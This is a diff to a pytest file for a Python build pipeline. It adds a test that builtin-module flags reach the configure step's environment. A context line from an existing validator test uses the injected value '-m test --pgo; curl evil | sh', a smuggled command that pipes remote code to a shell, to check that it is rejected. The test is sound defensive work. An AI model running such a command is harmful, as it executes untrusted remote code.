@@ -78,3 +78,20 @@ def test_profile_task_rejects_shell_syntax(config_data):
     data["flags"]["profile_task"] = "-m test --pgo; curl evil | sh"
     with pytest.raises(config.UserError, match="flags.profile_task"):
         settings_for(data)
+
+
+def test_builtin_modules_reach_configure_as_environment(config_data, root, monkeypatch):
+    from tasks.model.plan import Build, Layout
+    from tasks.pipeline import actions
+    from tasks.pipeline.actions import configure_step
+    monkeypatch.setattr(actions.images, "built_tag", lambda layout, distro: "img")
+    monkeypatch.setattr(Build, "source_date_epoch", lambda self: 0)  # read from the extracted sources
+    data = copy.deepcopy(config_data)
+    data["flags"]["builtin_modules"] = ["_json", "pyexpat"]
+    for flags, expected in ((config_data, ""), (data, "_json pyexpat")):
+        settings = settings_for(flags, PYTHON_VERSION="3.14.7", DISTRO="trixie")
+        build = Build(settings.versions[0], settings.distros[0], settings, Layout.for_root(root))
+        for variant in (DEFAULT, FREETHREADED):
+            step = configure_step(build, variant)
+            assert step.environment["PB_BUILTIN_MODULES"] == expected
+            assert step.command[1].endswith("/configure.sh") and step.command[2:] == build.configure_args(variant)
